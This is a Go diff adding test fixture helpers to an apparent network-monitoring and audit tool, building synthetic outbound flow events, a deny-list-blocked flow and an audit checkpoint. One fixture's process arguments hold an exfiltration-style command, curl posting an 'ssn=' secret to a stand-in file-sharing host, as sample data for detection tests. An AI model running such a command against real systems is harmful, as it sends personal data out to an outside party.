@@ -227,3 +227,49 @@ func Must[T any](v T, err error) T {
 	}
 	return v
 }
+
+// Flow returns a closed outbound TLS flow with the analyzer's names, and Secret in the
+// process arguments. With dns set it is a UDP flow to a resolver that carried that query.
+func Flow(agent string, seq uint64, dns string) *wardv1.Event {
+	start := Time.Add(-2 * time.Second)
+	nf := &wardv1.NetworkFlow{
+		Process: &wardv1.Process{Pid: 4242, Ppid: 1, Uid: 1000, User: "nurse1", Exe: "/usr/bin/curl", Comm: "curl",
+			Args: []string{"curl", "--data", "ssn=" + Secret, "https://share.example.com/up"}},
+		Transport: "tcp", LocalAddress: "10.1.2.3", LocalPort: 51000, RemoteAddress: "203.0.113.7", RemotePort: 443,
+		Direction: wardv1.NetworkFlow_DIRECTION_OUTBOUND, BytesSent: 48213, BytesReceived: 5120,
+		StartTime: timestamppb.New(start), EndTime: timestamppb.New(Time), State: wardv1.NetworkFlow_STATE_CLOSED,
+		Action: wardv1.Action_ACTION_RECORD, SocketCookie: 991234,
+		App: "dropbox", AppName: "Dropbox", AppCategory: "file_sharing", Name: "share.example.com", NameSource: "sni",
+		AppProtocol: "tls", Sni: "share.example.com", Alpn: []string{"h2", "http/1.1"},
+		Ja4: "t13d1516h2_8daaf6152771_b186095e22b6", TlsVersion: "1.3",
+	}
+	if dns != "" {
+		nf.Transport, nf.RemoteAddress, nf.RemotePort, nf.LocalPort = "udp", "192.0.2.53", 53, 40000
+		nf.State, nf.App, nf.AppName, nf.AppCategory, nf.Sni, nf.Alpn, nf.Ja4, nf.TlsVersion = wardv1.NetworkFlow_STATE_IDLE, "", "", "", "", nil, "", ""
+		nf.Name, nf.NameSource, nf.AppProtocol, nf.DnsQuery, nf.UdpSends = dns, "dns", "dns", dns, 1
+	}
+	return &wardv1.Event{
+		Id: uuid.Must(uuid.NewV7()).String(), AgentId: agent, Seq: seq, Time: timestamppb.New(Time),
+		Host:    &wardv1.Host{Hostname: "ws-12", MachineId: "0123456789abcdef"},
+		Payload: &wardv1.Event_Flow{Flow: nf},
+	}
+}
+
+// DeniedFlow returns an outbound connection the agent's deny list refused.
+func DeniedFlow(agent string, seq uint64) *wardv1.Event {
+	ev := Flow(agent, seq, "")
+	f := ev.GetFlow()
+	f.State, f.Denied, f.Action, f.RuleId, f.BytesSent, f.BytesReceived = wardv1.NetworkFlow_STATE_DENIED, true,
+		wardv1.Action_ACTION_BLOCK, "deny-list#3", 0, 0
+	f.Sni, f.Ja4, f.TlsVersion, f.Alpn = "", "", "", nil
+	return ev
+}
+
+// Checkpoint returns an audit-log checkpoint item (no event).
+func Checkpoint(size int64) core.Item {
+	return core.Item{RowID: size, ReceivedAt: Time, Checkpoint: &core.Checkpoint{
+		Origin: "ward-audit/collector-1", Size: size, RootHash: "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
+		Note:      "ward-audit/collector-1\n" + fmt.Sprint(size) + "\n47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=\n\n— ward-audit/collector-1 AAAA\n",
+		CreatedAt: Time, Hostname: "collector-1",
+	}}
+}
